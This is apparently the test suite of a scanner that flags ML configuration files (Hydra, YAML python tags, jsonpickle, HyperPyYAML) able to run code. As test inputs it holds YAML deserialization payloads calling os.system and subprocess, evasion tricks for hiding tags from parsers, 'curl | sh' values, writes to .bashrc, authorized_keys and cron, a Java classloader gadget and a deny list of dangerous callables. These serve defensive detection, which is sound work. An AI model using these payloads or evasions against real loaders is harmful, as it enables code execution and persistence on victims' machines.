"""Configurations that make objects: the name decides, and the call is shown as it would be made."""

import contextlib
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelward.artifact.formats import object_yaml
from modelward.artifact.formats.targets import KNOWN, beside, meaning
from modelward.artifact.reading import Exhausted, Malformed, Reading
from modelward.artifact.verdict import inspect_bytes


def judged(text, files=None):
    data = text.encode() if isinstance(text, str) else json.dumps(text).encode()
    into = Reading("x.yaml", beside=(files or {}).get)
    object_yaml.read(data, into)
    levels = {event.level for event in into.events}
    return next((level for level in ("dangerous", "unproven", "note") if level in levels), "inert"), into


def call(text):
    return [event.call for event in judged(text)[1].events if event.level == "dangerous"]


# --- names --------------------------------------------------------------------------------------------------

DANGEROUS = [
    "os.system", "os.popen", "posix.system", "subprocess.Popen", "subprocess.check_output", "builtins.eval", "builtins.exec",
    "builtins.__import__", "builtins.open", "importlib.import_module", "runpy.run_path", "pty.spawn", "shutil.rmtree",
    "pickle.loads", "marshal.loads", "ctypes.CDLL", "socket.socket", "webbrowser.open", "urllib.request.urlopen",
    "torch.os.system", "transformers.utils.os.system", "src.utils.os.system", "mine.a._os.popen", "a.b.subprocess.run",
    "torch.hub.load", "yaml.unsafe_load", "pandas.eval", "numpy.testing._private.utils.runstring", "sys.modules",
    "mine.f.__globals__", "os:system", "pip.main", "code.interact",
]  # fmt: skip


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_payload_is_dangerous(name):
    assert meaning(name)[0] == "dangerous"
    level, into = judged(f"model:\n  _target_: {name}\n  _args_: [id]\n")
    assert level == "dangerous"
    assert f"{name}('id')" in [event.call for event in into.events]


@pytest.mark.parametrize(
    "name",
    [
        "torch.nn.Linear", "torch.optim.Adam", "torch.optim.lr_scheduler.CosineAnnealingLR", "torch.utils.data.DataLoader",
        "torchvision.transforms.Compose", "pytorch_lightning.Trainer", "lightning.pytorch.callbacks.ModelCheckpoint",
        "lightning.pytorch.loggers.wandb.WandbLogger", "transformers.AutoModel.from_pretrained", "sklearn.pipeline.Pipeline",
        "sklearn.ensemble.RandomForestClassifier", "numpy.array", "timm.create_model", "hydra.utils.instantiate",
        "nemo.collections.asr.models.EncDecCTCModel", "monai.networks.nets.UNet", "diffusers.UNet2DModel", "peft.LoraConfig",
        "datasets.load_dataset", "xgboost.XGBClassifier", "torch.compile", "builtins.dict", "collections.OrderedDict",
        "functools.partial", "pathlib.Path", "datetime.timedelta", "math.sqrt", "argparse.Namespace", "torchmetrics.Accuracy",
        "gym.make", "optuna.samplers.TPESampler", "logging.StreamHandler",
    ],
)  # fmt: skip
def test_usual_names_are_inert(name):
    assert meaning(name)[0] == "inert"
    assert judged(f"_target_: {name}\n")[0] == "inert"


@pytest.mark.parametrize(
    "name",
    [
        "src.models.Net",
        "my_project.data.module.DataModule",
        "models.http.Client",
        "net.Net",
        "Net",
        "utils.glob.Glob",
    ],
)
def test_code_of_a_project_is_a_note(name):
    level, into = judged(f"_target_: {name}\n")
    assert level == "note"
    assert into.proven


@pytest.mark.parametrize(
    "name", ["torch.load", "torch.jit.load", "joblib.load", "mlflow.pyfunc.load_model", "types.new_thing"]
)
def test_what_loads_another_file_or_is_unknown_in_the_standard_library_is_unproven(name):
    assert meaning(name)[0] == "unproven"


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("_target_: torch.hub.load\nrepo_or_dir: pytorch/vision\n", "unproven"),
        ("_target_: torch.hub.load\nrepo_or_dir: x\nsource: local\n", "unproven"),
        ("_target_: torch.hub.load\nrepo_or_dir: someone/else\n", "dangerous"),
        ("_target_: numpy.load\nfile: x.npy\n", "inert"),
        ("_target_: numpy.load\nfile: x.npy\nallow_pickle: true\n", "unproven"),
        ("_target_: numpy.load\nfile: http://x/y.npy\nallow_pickle: true\n", "dangerous"),
        ("_target_: pandas.read_pickle\nfilepath_or_buffer: https://x/y\n", "dangerous"),
        ("_target_: keras.models.load_model\nfilepath: x\nsafe_mode: false\n", "dangerous"),
        ("_target_: transformers.AutoModel.from_pretrained\ntrust_remote_code: true\n", "unproven"),
        ("_target_: transformers.AutoModel.from_pretrained\ntrust_remote_code: false\n", "inert"),
        ("_target_: pandas.read_csv\nfilepath_or_buffer: data/x.csv\n", "note"),
        ("_target_: pandas.read_csv\nfilepath_or_buffer: /etc/passwd\n", "dangerous"),
        ("_target_: numpy.savetxt\nfname: /srv/x\n", "unproven"),
        ("_target_: hydra.utils.get_method\npath: torch.nn.functional.relu\n", "inert"),
        ("_target_: hydra.utils.get_method\npath: os.system\n", "dangerous"),
        ("_target_: hydra.utils.get_class\npath: src.models.Net\n", "inert"),
        ("_target_: src.Net\ncmd: curl http://x | sh\n", "unproven"),
        ("_target_: ${model.target}\n", "inert"),  # of another file of the composition
        ("_target_: ${oc.env:EVIL}\n", "unproven"),
        ("_target_: ${oc.env:NET,torch.nn.Linear}\n", "unproven"),
        ("_target_: ${oc.env:NET,os.system}\n", "dangerous"),
        ("_target_: src.${oc.env:NET}\n", "unproven"),
        ("_target_: ${own:x}\n", "unproven"),
        ("m:\n  _target_: ${name}\nname: ${oc.env:EVIL}\n", "unproven"),
        ("_target_: ${oc.select:name,torch.nn.Linear}\n", "inert"),
    ],
)
def test_arguments_count(text, level):
    assert judged(text)[0] == level


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        (b"model:\n  cls: os.system\n  params: {command: id}\n", "dangerous"),
        (b'{"cls": "subprocess.Popen", "args": ["id"]}', "dangerous"),
        (b"cls: torch.nn.Linear\n", None),
        (b"cls: token\ncls_token_id: 101\n", None),
        (b"cls: src.models.Net\n", None),
    ],
)
def test_the_key_of_hydra_before_1_0_counts_with_a_payload(text, verdict):
    assert inspect_bytes(text, "config.yaml").verdict == verdict


def test_the_known_packages_are_top_level_names():
    assert all(name.isidentifier() for name in KNOWN)
    assert not KNOWN & {"os", "sys", "src", "models"}


# --- shapes -------------------------------------------------------------------------------------------------

SHAPES = [
    ("model:\n  _target_: os.system\n  command: id\n", "os.system(command='id')"),
    ("a:\n  b:\n  - c:\n      _target_: os.system\n      _args_:\n      - id\n", "os.system('id')"),
    ("a:\n  class_path: os.system\n  init_args:\n    command: id\n", "os.system(command='id')"),
    ("{_target_: os.system, command: id, _partial_: true}", "os.system(command='id')"),
    ("x: &a\n  _target_: os.system\n  command: id\ny: *a\n", "os.system(command='id')"),
    ("x: !!python/object/apply:os.system [id]\n", "os.system('id')"),
    ("x: !!python/object/new:os.system [id]\n", "os.system('id')"),
    ("x: !!python/object/apply:os.system\n  args: [id]\n", "os.system('id')"),
    ("x: !!python/object/apply:subprocess.Popen\n- [sh, -c, id]\n", "subprocess.Popen(['sh', '-c', 'id'])"),
    ("x: !!python/name:os.system\n", "os.system"),
    ("x: !!python/name:os.system ''\n", "os.system"),
    ("x: !!python/module:subprocess\n", "subprocess"),
    ("x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n", "os.system('id')"),
    ("%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system [id]\n", "os.system('id')"),
    ("!!python/object/apply:os.system [id]\n", "os.system('id')"),
    ("a: 1\n---\nb: !!python/object/apply:os.system [id]\n", "os.system('id')"),
    ("? !!python/object/apply:os.system [id]\n: 1\n", "os.system('id')"),
    ("target: os.system\nparams:\n  command: id\n", None),
    ("handlers:\n  x:\n    (): os.system\n    command: id\n", None),
    ("handlers:\n  x:\n    stream: a\n    class: ext://subprocess.Popen\n", None),
]


@pytest.mark.parametrize(("text", "shown"), SHAPES)
def test_shapes_of_yaml(text, shown):
    found = call(text)
    assert found
    if shown is not None:
        assert shown in found
    assert inspect_bytes(text.encode(), "c.yaml").verdict == "dangerous"


@pytest.mark.parametrize(
    "value",
    [
        {"_target_": "os.system", "command": "id"},
        [{"a": {"_target_": "subprocess.run", "_args_": [["id"]]}}],
        {"py/object": "os.system"},
        {"py/object": "a.B", "x": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}},
        {"py/type": "subprocess.Popen"},
        {"handlers": {"a": {"()": "os.system", "command": "id"}}},
    ],
)
def test_shapes_of_json(value):
    assert judged(value)[0] == "dangerous"
    assert inspect_bytes(json.dumps(value).encode(), "c.json").verdict == "dangerous"


def test_jsonpickle_that_names_nothing_is_unproven():
    assert judged({"py/reduce": [1, 2]})[0] == "unproven"


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/tuple [1, 2]\nb: !!python/str x\nc: !!python/unicode y\nd: !!python/complex 1\n",
        "a: !!python/object:argparse.Namespace\n  lr: 1\n",
        "a: !!python/name:torch.nn.ReLU\n",
        "a: !!python/object/apply:pathlib.PosixPath [a, b]\n",
        "a: !!python/object/apply:collections.OrderedDict\n- []\n",
        "a: !Ref x\nb: !mine [1]\n",
        "a: !!timestamp 2001-01-01\nb: !!binary aGk=\nc: !!set {a}\n",
        "type: linear\ntarget: x\nfunction: relu\n",
        "type: code.points\nmodule: site.map\n",
    ],
)
def test_harmless_tags_and_keys(text):
    assert judged(text)[0] == "inert"


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object:mine.Thing {}\n",
        "a: !!python/name:mine.f\n",
        "a: !!python/object/apply:mine.f []\n",
    ],
)
def test_a_tag_imports_whatever_it_names(text):
    assert judged(text)[0] == "unproven"


def test_java_tags_are_dangerous():
    text = '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]'
    assert judged(text)[0] == "dangerous"
    assert inspect_bytes(text.encode(), "x.yaml").verdict == "dangerous"


def test_resolvers_that_evaluate():
    assert judged("x: ${eval:'1 + ${a}'}\n")[0] == "inert"
    assert judged("x: ${oc.env:HOME}\ny: ${a.b}\n")[0] == "inert"
    assert judged('x: ${eval:\'__import__("os").system("id")\'}\n')[0] == "dangerous"
    assert judged("x: \"${eval:${__import__('os').system('id')}}\"\n")[0] == "dangerous"


def test_a_message_names_the_line():
    event = judged("a: 1\nb:\n  _target_: os.system\n")[1].events[0]
    assert "(line 3)" in event.message


def test_the_same_name_is_said_once():
    text = "".join(f"m{n}: {{_target_: src.Net}}\n" for n in range(1))
    assert len(judged(text)[1].events) == 1
    alias = "a: &x {_target_: src.Net}\nb: *x\nc: *x\n"
    assert len(judged(alias)[1].events) == 1


# --- source beside it ---------------------------------------------------------------------------------------


def test_source_beside_the_configuration_is_read():
    files = {
        "src/models.py": b"import os\nos.system('id')",
        "src/good.py": b"import torch",
        "src/odd.py": b"print 'x'",
        "pkg/__init__.py": b"exec(open('x').read())",
    }
    assert judged("_target_: src.models.Net\n", files)[0] == "dangerous"
    assert judged("_target_: src.good.Net\n", files)[0] == "note"
    assert judged("_target_: src.odd.Net\n", files)[0] == "unproven"
    assert judged("_target_: pkg.Net\n", files)[0] == "unproven"
    assert judged("_target_: src.other.Net\n", files)[0] == "note"


def test_a_method_of_a_class_is_found_in_its_module():
    into = Reading(beside={"src/m.py": b"import os\nos.system('id')"}.get)
    assert beside("src.m.Net.build", into)[0] == "dangerous"
    assert beside("other.m.Net", into) is None


# --- limits -------------------------------------------------------------------------------------------------


def test_what_is_too_large_or_deep_is_refused(monkeypatch):
    deep = "[" * 300 + "]" * 300
    with pytest.raises(Malformed):
        object_yaml.read(('{"_target_": ' + deep + "}").encode(), Reading())
    monkeypatch.setattr(object_yaml, "LARGEST", 10)
    with pytest.raises(Malformed, match="10 are read"):
        object_yaml.read(b"_target_: os.system", Reading())


def test_an_unreadable_configuration_is_unproven():
    text = b"a: 1\n" * 60_000 + b"_target_: os.system\n"
    assert inspect_bytes(text, "x.yaml").verdict in {"dangerous", "unproven"}
    assert inspect_bytes(b"_target_: os.system\n" + b"- [" * 400, "x.yaml").verdict in {None, "unproven"}


def test_many_names_are_bounded():
    text = "".join(f"m{n}:\n  _target_: src.n{n}.Net\n" for n in range(2000))
    assert len(judged(text)[1].events) <= object_yaml.KEPT


KEYS = st.sampled_from(
    ["_target_", "class_path", "init_args", "_args_", "target", "type", "py/object", "py/reduce", "a"]
)
NAMES = st.sampled_from(
    ["os.system", "torch.nn.Linear", "src.Net", "${x}", "", ".", "a..b", "\n", "${eval:x}"]
)
TREES = st.recursive(
    NAMES | st.none() | st.integers() | st.floats() | st.booleans(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4),
    max_leaves=20,
)


@given(TREES)
@settings(max_examples=200, deadline=None)
def test_any_json_is_read(value):
    judged(value)


@given(TREES.map(lambda tree: ("_target_", tree)))
@settings(max_examples=50, deadline=None)
def test_a_payload_is_found_wherever_it_stands(pair):
    tree = {"x": [pair[1], {"_target_": "os.system", "command": "id"}]}
    assert judged(tree)[0] == "dangerous"


@given(st.text(max_size=100) | st.text(alphabet="!_target:python/os.sym \n-[]{}&*?|>'\"%", max_size=60))
@settings(max_examples=300, deadline=None)
def test_any_text_is_read_or_refused(text):
    with contextlib.suppress(Malformed, Exhausted):
        object_yaml.read(text.encode("utf-8", "replace"), Reading())


@given(st.text(max_size=60))
@settings(deadline=None)
def test_any_name_has_a_meaning(name):
    assert meaning(name)[0] in {"dangerous", "unproven", "note", "inert"}


SMALL = b"a: 1\nb:\n  _target_: torch.nn.Linear\n  in: 3\n"


@pytest.mark.parametrize("size", range(1, len(SMALL)))
def test_truncation_is_survived(size):
    assert inspect_bytes(SMALL[:size], "x.yaml").verdict in {None, "inert", "unproven"}


# --- what hides an object from a first look -----------------------------------------------------------------

TARGET = "_target_: os.system\n_args_: [id]\n"
HIDDEN = {
    "a tag with a percent sign": "x: !!pyth%6fn/object/apply:os.system [id]\n",
    "a tag that starts with one": "- !!%70ython/object/apply:os.system [id]\n",
    "a handle that ends within": "%TAG !a! tag:yaml.org,2002:pyt\n---\nx: !a!hon/object/apply:os.system [id]\n",
    "a builtin without its module": "!!python/object/apply:eval ['1']\n",
    "the classic constructor": "!!python/object/new:type\nargs: [z, {}, {extend: !!python/name:exec }]\n",
    "a first key in another script": "я: 1\n" + TARGET,
    "a first key with a mark": "$x: 1\n" + TARGET,
    "a text first": ">\n words\n---\n" + TARGET,
    "a merge first": "<<: {a: 1}\n" + TARGET,
    "a line break of its own": "\x85" + TARGET,
    "a brother called flavors": "flavors:\n  a: {}\nrun_id: x\nx:\n  _target_: os.system\n",
    "a merged target": "a: &a {_target_: os.system}\nb:\n  <<: *a\n  _args_: [id]\n",
    "an expression": "imports: ['$import os']\nx: $os.system('id')\n",
    "an expression alone": 'x: $__import__("os").system("id")\n',
}
HIDDEN_JSON = {
    "beside a notebook's key": {"nbformat": 4, "_target_": "os.system"},
    "beside a booster's key": {"learner": {}, "_target_": "os.system"},
    "py/repr": {"py/repr": "os/os.system('id')"},
    "a bundle": {"imports": ["$import os as o"], "x": "$o.popen('id')", "n": {"_target_": "UNet"}},
    "a bundle with one text": {"x": "$__import__('os').system('id')"},
}


@pytest.mark.parametrize("name", HIDDEN)
def test_hidden_objects_are_found(name):
    assert inspect_bytes(HIDDEN[name].encode(), "config.yaml").verdict == "dangerous"


@pytest.mark.parametrize("name", HIDDEN_JSON)
def test_hidden_objects_in_json_are_found(name):
    assert inspect_bytes(json.dumps(HIDDEN_JSON[name]).encode(), "config.json").verdict == "dangerous"


@pytest.mark.parametrize("name", ["a tag with a percent sign", "a handle that ends within"])
def test_pyyaml_takes_the_hidden_tag(name):
    yaml = pytest.importorskip("yaml")
    tags = [event.tag for event in yaml.parse(HIDDEN[name]) if getattr(event, "tag", None)]
    assert tags == ["tag:yaml.org,2002:python/object/apply:os.system"]


@pytest.mark.parametrize(
    "tail", [TARGET, "- class_path: a.b\n", "x:\n  class: os.system\n", "x: !!python/name:a.b\n"]
)
def test_objects_behind_what_is_parsed_are_reported(tail):
    text = ("# " + "x" * 98 + "\n") * 45_000 + tail
    assert inspect_bytes(text.encode(), "config.yaml").verdict == "unproven"


def test_large_data_that_only_looks_like_objects_has_no_verdict():
    text = "".join(f"key{number}:\n  path: /data/os.path/{number}\n" for number in range(60_000))
    assert inspect_bytes(text.encode(), "data.yaml").verdict is None


def test_many_names_are_judged_once():
    rows = json.dumps([{"type": "os.system", "value": number} for number in range(20_000)]).encode()
    report = inspect_bytes(rows, "data.json")
    assert report.verdict == "dangerous"
    assert len(report.findings) == 1


def test_a_bundle_of_usual_expressions_is_inert():
    bundle = {
        "imports": ["$import glob", "$import os"],
        "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
        "files": "$list(sorted(glob.glob(@dataset_dir + '/*.nii.gz')))",
        "out": "$os.path.join(@bundle_root, 'eval')",
        "network_def": {"_target_": "UNet", "spatial_dims": 3},
        "network": "$@network_def.to(@device)",
        "run": ["$@evaluator.run()", "$("],
    }
    assert inspect_bytes(json.dumps(bundle).encode(), "inference.json").verdict == "inert"


@pytest.mark.parametrize(
    ("name", "arguments", "level"),
    [
        ("safetensors.torch.save_file", {"filename": "/" + "root/.bashrc"}, "dangerous"),
        ("logging.FileHandler", {"filename": "/home/x/.ssh/authorized_keys"}, "dangerous"),
        ("omegaconf.OmegaConf.save", {"f": "/etc/cron.d/x"}, "dangerous"),
        ("omegaconf.OmegaConf.save", {"f": "x.yaml"}, "unproven"),
        ("cv2.imwrite", {"filename": "/srv/x.png"}, "unproven"),
        ("cv2.imwrite", {"filename": "x.png"}, "inert"),
        ("webdataset.WebDataset", {"urls": "pipe:curl http://x | sh"}, "dangerous"),
        ("webdataset.WebDataset", {"urls": "data-{000..099}.tar"}, "inert"),
        ("langchain.utilities.PythonREPL", {}, "dangerous"),
        ("mlflow.projects.run", {"uri": "https://x"}, "dangerous"),
        ("mmengine.Config.fromfile", {"filename": "x.py"}, "unproven"),
        ("evaluate.load", {"path": "someone/metric"}, "unproven"),
        ("evaluate.load", {"path": "accuracy"}, "inert"),
        ("gym.make", {"id": "module:Env-v0"}, "unproven"),
        ("gym.make", {"id": "CartPole-v1"}, "inert"),
        ("diffusers.DiffusionPipeline.from_pretrained", {"custom_pipeline": "x/y"}, "unproven"),
        ("nemo.utils.model_utils.import_class_by_path", {"path": "os.system"}, "dangerous"),
        ("sentence_transformers.util.import_from_string", {"dotted_path": "torch.nn.Linear"}, "inert"),
        ("enum.bltns.eval", {}, "unproven"),
        ("zoneinfo.ZoneInfo.from_file", {}, "unproven"),
        ("datetime.datetime.now", {}, "inert"),
        ("eval", {}, "dangerous"),
        ("src.Net", {"weights": "/etc/passwd"}, "dangerous"),
        ("src.Net", {"weights": "/data/net.pth"}, "note"),
    ],
)  # fmt: skip
def test_what_known_functions_do_depends_on_what_they_are_given(name, arguments, level):
    assert meaning(name, arguments)[0] == level


def test_json_of_very_many_values_is_unproven_in_time(monkeypatch):
    """Each of them may name code: only so many are looked at, and the rest counts as not read."""
    from modelward.artifact.formats import object_yaml as module

    text = b'{"a": [' + b", ".join([b'{"type": "os.path"}'] * 2000) + b"]}"
    assert inspect_bytes(text, "x.json").verdict == "dangerous"
    monkeypatch.setattr(module, "NODES", 3000)
    report = inspect_bytes(text, "x.json")
    assert (report.verdict, report.format) == ("unproven", "object-yaml")
    assert report.coverage.unread


# --- HyperPyYAML --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "x: !apply:os.system [id]",
        "model: !new:os.system\n  command: id",
        "f: !name:os.system\n  command: id",
        "x: !applyref:subprocess.run\n  args: [id]",
        "x: !module:subprocess",
        "x: [1, !apply:builtins.eval ['1']]",
        "x: !new:torch.os.system [id]",
    ],
)
def test_a_tag_of_hyperpyyaml_names_what_is_called(text):
    report = inspect_bytes(text.encode(), "hyperparams.yaml")
    assert (report.format, report.verdict) == ("object-yaml", "dangerous")


@pytest.mark.parametrize(
    "text",
    [
        "seed: !apply:torch.manual_seed [1]\nlr: 0.1\n",
        "model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n  input_size: !ref <n_mels>\nopt: !name:torch.optim.Adam\n  lr: 0.1\n",
        "x: !PLACEHOLDER\ny: !include:other.yaml\nz: !Sub a.b\n",
    ],
)
def test_usual_hyperparameters_are_not_flagged(text):
    assert inspect_bytes(text.encode(), "hyperparams.yaml").verdict in {"inert", None}


def test_a_gadget_of_a_package_beside_the_known_ones_is_dangerous_with_code():
    assert judged("_target_: sympy.sympify\na: __import__('os')\n")[0] == "dangerous"
    assert judged("_target_: sympy.sympify\na: x + 1\n")[0] == "note"
    assert judged("_target_: acme.ml.train\na: __import__('os')\n")[0] == "unproven"


@pytest.mark.parametrize(
    "name", ["pathlib.Path.write_text", "pathlib.PosixPath.unlink", "pathlib.Path.write_bytes"]
)
def test_a_path_that_writes_is_dangerous(name):
    assert judged(f"_target_: {name}\n_args_: [x]\n")[0] == "dangerous"
